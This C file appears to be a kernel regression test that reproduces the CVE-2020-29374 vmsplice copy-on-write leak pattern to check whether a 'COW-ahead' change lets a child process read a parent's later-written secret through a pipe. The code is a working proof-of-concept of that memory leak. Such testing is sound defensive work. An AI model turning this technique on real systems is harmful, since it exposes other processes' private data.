/*
 * vmsplice_leak SPLICED: the CVE-2020-29374 pattern against COW-ahead.
 *
 * The parent fills 1 + SPLICED pages with 'A' and forks. The child
 * vmsplices pages 1..SPLICED into a pipe (the pipe now holds references)
 * and unmaps them, so the parent maps them alone: map count 1, reference
 * count 2. The parent writes page 0, still shared, so the fault copies it
 * and COW-ahead looks at pages 1..: a kernel that judged them by map count
 * would make them writable in place. The parent then writes a secret 'S'
 * over pages 1..SPLICED; the child reads the pipe. Any 'S' it sees leaked.
 * Exit status 0: no leak; 1: leak; 2: error.
 */
#include "common.h"
#include <sys/uio.h>
#include <sys/wait.h>

int main(int argc, char **argv)
{
	unsigned long spliced = argc > 1 ? strtoul(argv[1], NULL, 0) : 63, i;
	char *base, *buf;
	int data[2], ready[2], go[2];
	pid_t child;
	int status;
	char byte = 0;

	if (spliced < 1 || spliced > 511) {
		fprintf(stderr, "usage: vmsplice_leak [SPLICED 1..511]\n");
		return 2;
	}
	base = isolated_region(1 + spliced);
	memset(base, 'A', (1 + spliced) * PAGE);
	if (pipe(data) || pipe(ready) || pipe(go))
		die("pipe");
	if (fcntl(data[1], F_SETPIPE_SZ, (int)(spliced * PAGE)) < 0)
		die("F_SETPIPE_SZ");
	child = fork();
	if (child < 0)
		die("fork");
	if (child == 0) {
		struct iovec iov = { base + PAGE, spliced * PAGE };
		unsigned long leaked = 0;
		size_t got = 0;
		ssize_t n;

		while (iov.iov_len) {
			n = vmsplice(data[1], &iov, 1, 0);
			if (n <= 0)
				die("vmsplice");
			iov.iov_base = (char *)iov.iov_base + n;
			iov.iov_len -= n;
		}
		if (munmap(base + PAGE, spliced * PAGE))
			die("munmap");
		if (write(ready[1], &byte, 1) != 1 || read(go[0], &byte, 1) != 1)
			die("handshake");
		buf = malloc(spliced * PAGE);
		while (got < spliced * PAGE && (n = read(data[0], buf + got, spliced * PAGE - got)) > 0)
			got += n;
		for (i = 0; i < got; i++)
			leaked += buf[i] == 'S';
		printf("{\"spliced_pages\": %lu, \"read_bytes\": %zu, \"leaked_bytes\": %lu}\n",
		       spliced, got, leaked);
		fflush(stdout);
		_exit(leaked ? 1 : got == spliced * PAGE ? 0 : 2);
	}
	if (read(ready[0], &byte, 1) != 1)
		die("handshake");
	base[0] = 'P';				/* COW copy of page 0; COW-ahead runs here */
	memset(base + PAGE, 'S', spliced * PAGE);	/* the parent's secret */
	if (write(go[1], &byte, 1) != 1)
		die("handshake");
	if (waitpid(child, &status, 0) != child || !WIFEXITED(status))
		die("child");
	return WEXITSTATUS(status);
}
